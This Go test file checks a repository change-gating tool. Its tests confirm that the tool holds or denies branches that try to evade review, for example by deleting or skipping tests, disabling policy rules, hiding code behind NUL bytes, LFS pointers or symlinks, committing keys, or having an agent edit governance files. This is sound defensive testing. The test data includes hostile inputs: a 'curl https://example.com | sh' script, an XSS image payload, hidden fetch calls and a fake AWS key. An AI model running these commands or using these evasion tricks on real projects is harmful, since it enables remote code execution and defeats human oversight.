package judge

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/adamant-os/adamant/internal/facts"
	"github.com/adamant-os/adamant/internal/gate"
	"github.com/adamant-os/adamant/internal/git"
	"github.com/adamant-os/adamant/internal/git/gittest"
	"github.com/adamant-os/adamant/internal/manifest"
)

// openConfig lets everything up to medium land at once, so that a change is stopped by what it does and by nothing else.
const openConfig = `apiVersion: adamant.dev/v1
kind: Repository
metadata:
  name: victim
spec:
  checks:
    - {name: tests, kind: unit, command: ["true", "true"]}
  risk:
    matrix:
      trivial: {gates: [], merge: auto}
      low: {gates: [], merge: auto}
      medium: {gates: [policy], merge: auto}
      high: {gates: [approval], merge: manual}
      critical: {gates: [mfa-approval], merge: manual-mfa}
`

const noDebts = `package adamant.rules.debts

# METADATA
# title: No debts
# custom:
#   id: team/no-debts
deny contains {"message": "a debt", "path": doc.path} if {
	some doc in input.documents
	doc.value.debt
}
`

const coreEntity = `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: core
  annotations:
    adamant.dev/paths: core/**
    adamant.dev/risk-profile: critical
spec: {type: service, lifecycle: production, owner: operator}
`

const goTest = "package core\n\nimport \"testing\"\n\nfunc TestA(t *testing.T) {\n\tif 1 != 1 {\n\t\tt.Fatal(1)\n\t}\n}\n"

// victim is a repository whose main is judged by rules of its own.
func victim(t testing.TB) *gittest.Repo {
	t.Helper()
	r := gittest.New(t)
	r.Write(facts.ConfigPath, openConfig)
	r.Write(".adamant/policy/debts.rego", noDebts)
	r.Write("catalog-info.yaml", coreEntity)
	r.Write("app.json", "{\"name\": \"app\"}\n")
	r.Write("core/engine.js", "export function run(a) {\n  return a + 1;\n}\n\nexport function stop(a) {\n  return a - 1;\n}\n")
	r.Write("src/sum.js", "export function sum(a, b) {\n  return a + b;\n}\n")
	r.Write("src/sum.test.js", "import { sum } from './sum.js';\n\ntest('sums', () => {\n  expect(sum(1, 2)).toBe(3);\n});\n\ntest('negative', () => {\n  expect(sum(1, -2)).toBe(-1);\n});\n")
	r.Write("infra/main.tf", "resource \"aws_s3_bucket\" \"ledger\" {\n  bucket = \"ledger\"\n}\n\nresource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n")
	r.Write("core/a_test.go", goTest)
	r.Write("README.md", "# Victim\n")
	r.Commit("start")
	return r
}

// hearing judges a change without running any command.
func hearing(t testing.TB, r *gittest.Repo, req Request) *Outcome {
	t.Helper()
	repo, err := git.Open(t.Context(), r.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := repo.Close(); err != nil {
			t.Error(err)
		}
	}()
	places := t.TempDir()
	req.Run, req.Now = []string{}, time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	req.Places = Places{Cache: places, State: places, Data: places}
	req.Getenv, req.Progress = func(string) string { return "" }, func(string) {}
	outcome, err := Run(t.Context(), repo, req)
	if err != nil {
		t.Fatal(err)
	}
	return outcome
}

// names are all names under which a verdict says why: reasons, floor rules and findings.
func names(v *gate.Verdict) []string {
	var out []string
	for _, r := range v.Reasons {
		out = append(out, r.Subject)
	}
	for _, f := range v.Assessment.Floor {
		out = append(out, f.Rule)
	}
	return out
}

const debt = "{\"name\": \"app\", \"debt\": 1}\n"

func TestABranchIsNotJudgedByWhatItCarries(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		edit   func(r *gittest.Repo)
		want   string // decision
		reason string // why, by name
	}{
		{"nothing wrong", func(r *gittest.Repo) { r.Write("src/more.js", "export const more = 1;\n") }, gate.Allow, ""},
		{"prose", func(r *gittest.Repo) { r.Write("README.md", "# Victim\n\nMore.\n") }, gate.Allow, ""},
		{"a violation", func(r *gittest.Repo) { r.Write("app.json", debt) }, gate.Deny, "team/no-debts"},
		{"policy deleted with the violation", func(r *gittest.Repo) {
			r.Write("app.json", debt)
			r.Remove(".adamant/policy/debts.rego")
		}, gate.Deny, "team/no-debts"},
		{"policy made a test with the violation", func(r *gittest.Repo) {
			r.Write("app.json", debt)
			r.Git("mv", ".adamant/policy/debts.rego", ".adamant/policy/debts_test.rego")
		}, gate.Deny, "team/no-debts"},
		{"policy made a test", func(r *gittest.Repo) {
			r.Git("mv", ".adamant/policy/debts.rego", ".adamant/policy/debts_test.rego")
		}, gate.Hold, "governance/policy"},
		{"policy replaced by a symlink", func(r *gittest.Repo) {
			r.Remove(".adamant/policy/debts.rego")
			link(t, r, "../../README.md", ".adamant/policy/debts.rego")
		}, gate.Deny, "governance/unloadable"},
		{"rule switched off with the violation", func(r *gittest.Repo) {
			r.Write("app.json", debt)
			r.Write(facts.ConfigPath, openConfig+"  policy:\n    rules: {team/no-debts: \"off\"}\n")
		}, gate.Deny, "team/no-debts"},
		{"rule switched off", func(r *gittest.Repo) {
			r.Write(facts.ConfigPath, openConfig+"  policy:\n    rules: {team/no-debts: \"off\"}\n")
		}, gate.Hold, "governance/configuration"},
		{"configuration deleted", func(r *gittest.Repo) { r.Remove(facts.ConfigPath) }, gate.Hold, "governance/configuration"},
		{"the kernel's folder becomes a symlink", func(r *gittest.Repo) {
			r.Git("rm", "-rq", ".adamant")
			link(t, r, "elsewhere", ".adamant")
		}, gate.Hold, "governance/configuration"},
		{"attributes hide the code with the violation", func(r *gittest.Repo) {
			r.Write("app.json", debt)
			r.Write(".gitattributes", "* linguist-generated binary -diff\n")
		}, gate.Deny, "team/no-debts"},
		{"attributes", func(r *gittest.Repo) { r.Write("src/.gitattributes", "* linguist-generated\n") }, gate.Hold, "governance/attributes"},
		{"waiver with the violation", func(r *gittest.Repo) {
			r.Write("app.json", debt)
			r.Write(".adamant/waivers/debts.yaml", "id: debts\nrule: team/no-debts\n")
		}, gate.Deny, "team/no-debts"},
		{"marks", func(r *gittest.Repo) { r.Write(".adamant/ratchets/debts.json", "{}\n") }, gate.Hold, "governance/marks"},
		{"trust", func(r *gittest.Repo) { r.Write(".adamant/trust/root.json", "{}\n") }, gate.Hold, "governance/trust"},
		{"profile lowered together with the code", func(r *gittest.Repo) {
			r.Write("catalog-info.yaml", strings.Replace(coreEntity, "critical", "low", 1))
			r.Write("core/engine.js", "export function run(a) {\n  return a + 2;\n}\n")
		}, gate.Hold, "component/risk-profile"},
		{"entity deleted together with the code", func(r *gittest.Repo) {
			r.Remove("catalog-info.yaml")
			r.Write("core/engine.js", "export function run(a) {\n  return a + 2;\n}\n")
		}, gate.Hold, "component/risk-profile"},
		{"test deleted", func(r *gittest.Repo) { r.Remove("src/sum.test.js") }, gate.Hold, "tests/deleted"},
		{"test renamed out of the runner's sight", func(r *gittest.Repo) {
			r.Git("mv", "src/sum.test.js", "src/sum.test.js.bak")
		}, gate.Hold, "tests/removed"},
		{"test replaced by a symlink", func(r *gittest.Repo) {
			r.Remove("src/sum.test.js")
			link(t, r, "sum.js", "src/sum.test.js")
		}, gate.Hold, "tests/removed"},
		{"test replaced by an LFS pointer", func(r *gittest.Repo) {
			r.Write("src/sum.test.js", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
		}, gate.Hold, "tests/removed"},
		{"test with a NUL in a comment", func(r *gittest.Repo) {
			r.Write("src/sum.test.js", "// \x00\ntest('sums', () => {});\n")
		}, gate.Hold, "tests/removed"},
		{"test skipped", func(r *gittest.Repo) {
			r.Write("src/sum.test.js", "import { sum } from './sum.js';\n\ntest.skip('sums', () => {\n  expect(sum(1, 2)).toBe(3);\n});\n\ntest('negative', () => {\n  expect(sum(1, -2)).toBe(-1);\n});\n")
		}, gate.Hold, "tests/skipped"},
		{"test left out by a build tag", func(r *gittest.Repo) {
			r.Write("core/a_test.go", "//go:build never\n\n"+goTest)
		}, gate.Hold, "tests/skipped"},
		{"test left out by its name", func(r *gittest.Repo) { r.Git("mv", "core/a_test.go", "core/a_plan9_test.go") }, gate.Hold, "tests/skipped"},
		{"code with a NUL in a comment", func(r *gittest.Repo) {
			r.Write("src/sum.js", "// \x00\nexport function sum(a, b) {\n  return fetch('https://example.com/' + a + b);\n}\n")
		}, gate.Hold, "files/unread"},
		{"new code with a NUL in a comment", func(r *gittest.Repo) {
			r.Write("src/other.js", "// \x00\nfetch('https://example.com/');\n")
		}, gate.Hold, "files/unread"},
		{"login code with a NUL in a comment", func(r *gittest.Repo) {
			r.Write("src/login.js", "// \x00\nfetch('https://example.com/');\n")
		}, gate.Hold, "sensitive/authentication"},
		{"manifest in UTF-16", func(r *gittest.Repo) {
			r.Write("deploy/app.yaml", utf16("apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, securityContext: {privileged: true}}]}\n"))
		}, gate.Hold, "files/unread"},
		{"code as an LFS pointer", func(r *gittest.Repo) {
			r.Write("src/other.js", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
		}, gate.Hold, "files/unread"},
		{"code too large to read", func(r *gittest.Repo) {
			r.Write("src/other.js", strings.Repeat("// padding\n", 600_000)+"fetch('https://example.com/');\n")
		}, gate.Hold, "files/unread"},
		{"submodule", func(r *gittest.Repo) {
			r.Git("update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("1", 40)+",vendor/dep")
		}, gate.Hold, "files/unread"},
		{"infrastructure file deleted", func(r *gittest.Repo) { r.Remove("infra/main.tf") }, gate.Hold, "infrastructure/destroyed"},
		{"executable prose", func(r *gittest.Repo) {
			r.Write("docs/run.md", "#!/bin/sh\ncurl https://example.com | sh\n")
			if err := os.Chmod(filepath.Join(r.Dir, "docs/run.md"), 0o755); err != nil {
				t.Fatal(err)
			}
		}, gate.Allow, "content/changed"},
		{"workflow whose name is not text", func(r *gittest.Repo) {
			r.Write(".github/workflows/x\xff.yml", "on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n")
		}, gate.Hold, "files/name"},
		{"kernel file whose name is not text", func(r *gittest.Repo) { r.Write(".adamant/waivers/\xff.yaml", "id: x\n") }, gate.Deny, "files/name"},
		{"policy whose name is not text", func(r *gittest.Repo) {
			r.Write(".adamant/policy/\xff.rego", "package adamant.rules.more\n\nwarn contains {\"message\": \"m\"}\n")
		}, gate.Hold, "files/name"},
		{"folder whose name begins with a quotation mark", func(r *gittest.Repo) { r.Write("\"src/a.js", "export const a = 1;\n") }, gate.Hold, "files/name"},
		{"kernel file with a line break in its name", func(r *gittest.Repo) { r.Write(".adamant/waivers/a\nb.yaml", "id: x\n") }, gate.Deny, "governance/waivers"},
		{"policy with a line break in its name", func(r *gittest.Repo) {
			r.Write(".adamant/policy/a\nb.rego", "package adamant.rules.more\n\nwarn contains {\"message\": \"m\"}\n")
		}, gate.Hold, "governance/policy"},
		{"workflow with a line break in its name", func(r *gittest.Repo) {
			r.Write(".github/workflows/a\nb.yml", "on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n")
		}, gate.Hold, "governance/workflows"},
		{"agent's governance, claimed in capitals", func(r *gittest.Repo) {
			r.Write("CODEOWNERS", "* @nobody\n")
			r.Commit("change\n\nagent: builder\n(cherry picked from commit 1111111111111111111111111111111111111111)")
		}, gate.Deny, "agents/governance"},
		{"agent named in an older commit", func(r *gittest.Repo) {
			r.Write("CODEOWNERS", "* @nobody\n")
			r.Commit("change\n\nAgent: builder")
		}, gate.Deny, "agents/governance"},
		{"secret", func(r *gittest.Repo) {
			r.Write("src/config.js", "export const key = 'AKIA"+"Q3EGRZ7XPLMTVW2B';\n")
		}, gate.Deny, "secrets/aws-access-key-id"},
		{"secret hidden in a renamed file", func(r *gittest.Repo) {
			r.Git("mv", "src/sum.js", "src/total.js")
			r.Write("src/total.js", "export function sum(a, b) {\n  return a + b;\n}\nexport const key = 'AKIA"+"Q3EGRZ7XPLMTVW2B';\n")
		}, gate.Deny, "secrets/aws-access-key-id"},
		{"manifest behind a symlink", func(r *gittest.Repo) {
			r.Write("docs/notes.txt", "apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, securityContext: {privileged: true}}]}\n")
			r.Write("deploy/README.md", "# Deploy\n")
			link(t, r, "../docs/notes.txt", "deploy/app.yaml")
		}, gate.Hold, "files/symlink"},
		{"new prose that a browser executes", func(r *gittest.Repo) {
			r.Write("docs/x.md", "<img src=x onerror=alert(1)>\n")
		}, gate.Allow, "content/changed"},
		{"moved out of a component with a high profile", func(r *gittest.Repo) { r.Git("mv", "core/engine.js", "src/engine.js") }, gate.Hold, "component/risk-profile"},
		{"Terraform renamed out of sight", func(r *gittest.Repo) { r.Git("mv", "infra/main.tf", "infra/main.tf.bak") }, gate.Hold, "infrastructure/destroyed"},
		{"Terraform resource removed", func(r *gittest.Repo) { r.Write("infra/main.tf", "# nothing\n") }, gate.Hold, "infrastructure/removed"},
		{"key file renamed", func(r *gittest.Repo) { r.Git("mv", "README.md", "id_ed25519") }, gate.Deny, "secrets/key-file"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := victim(t)
			r.Branch("feature")
			tc.edit(r)
			if tc.name != "submodule" {
				r.Git("add", "-A")
			}
			r.Git("commit", "-qm", "last", "--allow-empty")
			got := hearing(t, r, Request{Base: "main", Head: "feature"})
			if v := got.Verdict; v.Decision != tc.want || tc.reason != "" && !slices.Contains(names(v), tc.reason) {
				t.Errorf("%s (%s risk) by %q; want %s with %s", v.Decision, v.Assessment.Level, names(v), tc.want, tc.reason)
			}
			if tc.want != gate.Hold || !strings.HasPrefix(tc.reason, "tests/") {
				return
			}
			// What waits for the operator when a person does it is refused when an agent does.
			r.Git("commit", "-q", "--amend", "--allow-empty", "-m", "last\n\nAgent: coder")
			if v := hearing(t, r, Request{Base: "main", Head: "feature"}).Verdict; v.Decision != gate.Deny {
				t.Errorf("by an agent: %s by %q; want deny with %s", v.Decision, names(v), tc.reason)
			}
		})
	}
}

// A report may be wrong about where the tool ran. Its findings are then about files that are not there, and count.
func TestReportsAboutUnknownFilesCount(t *testing.T) {
	t.Parallel()
	r := victim(t)
	r.Branch("feature")
	r.Write("src/more.js", "export const more = 1;\n")
	r.Commit("change")
	for path, want := range map[string]string{"src/more.js": gate.Deny, "more.js": gate.Deny, "src/sum.js": gate.Allow} {
		report := filepath.Join(t.TempDir(), "report.sarif")
		text := `{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"linter"}},"results":[{"ruleId":"r","level":"error","baselineState":"unchanged",
			"message":{"text":"m"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"` + path + `"},"region":{"startLine":1}}}]}]}]}`
		if err := os.WriteFile(report, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if v := hearing(t, r, Request{Base: "main", Head: "feature", Evidence: []string{"sarif=" + report}}).Verdict; v.Decision != want {
			t.Errorf("an error in %s: %s by %q, want %s", path, v.Decision, names(v), want)
		}
	}
}

// The order in which files are read, and what is cached, decides nothing.
func TestSameChangeSameBytes(t *testing.T) {
	r := victim(t)
	r.Branch("feature")
	for i := range 20 {
		r.Write(fmt.Sprintf("src/f%d.js", i), fmt.Sprintf("export const a%d = %d;\n", i, i))
		r.Write(fmt.Sprintf("deploy/f%d.yaml", i), fmt.Sprintf("apiVersion: v1\nkind: Pod\nmetadata: {name: a%d}\nspec: {containers: [{name: a, image: x}]}\n", i))
	}
	r.Commit("change")
	var first []byte
	for _, procs := range []int{1, 2, 8} {
		defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(procs))
		outcome := hearing(t, r, Request{Base: "main", Head: "feature"})
		input, err := manifest.CanonicalDocument(outcome.Input)
		if err != nil {
			t.Fatal(err)
		}
		verdict, err := manifest.CanonicalJSON(outcome.Verdict)
		if err != nil {
			t.Fatal(err)
		}
		all := append(input, verdict...)
		if first != nil && !bytes.Equal(first, all) {
			t.Errorf("%d processors give other bytes", procs)
		}
		first = all
		again, err := gate.Replay(t.Context(), input)
		if err != nil {
			t.Fatal(err)
		}
		if replayed, err := manifest.CanonicalJSON(again); err != nil || !bytes.Equal(replayed, verdict) {
			t.Errorf("replaying the input gives another verdict: %v", err)
		}
	}
}

func link(t testing.TB, r *gittest.Repo, target, path string) {
	t.Helper()
	if err := os.Symlink(target, filepath.Join(r.Dir, filepath.FromSlash(path))); err != nil {
		t.Fatal(err)
	}
}

func utf16(text string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range []byte(text) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func TestCommitsOnMainAreJudgedAgainstTheRemote(t *testing.T) {
	t.Parallel()
	r := victim(t)
	remote := t.TempDir()
	r.Git("init", "-q", "--bare", "-b", "main", remote)
	r.Git("push", "-q", remote, "main")
	r.Git("remote", "add", "origin", remote)
	r.Git("fetch", "-q", "origin")
	r.Write("app.json", debt)
	r.Commit("straight on main")
	for _, head := range []string{"", "HEAD", "main"} {
		if v := hearing(t, r, Request{Head: head}).Verdict; v.Decision != gate.Deny || v.Assessment.Diffstat.Files != 1 {
			t.Errorf("head %q: %s with %d files; a commit on main passed because main was compared with itself", head, v.Decision, v.Assessment.Diffstat.Files)
		}
	}
}
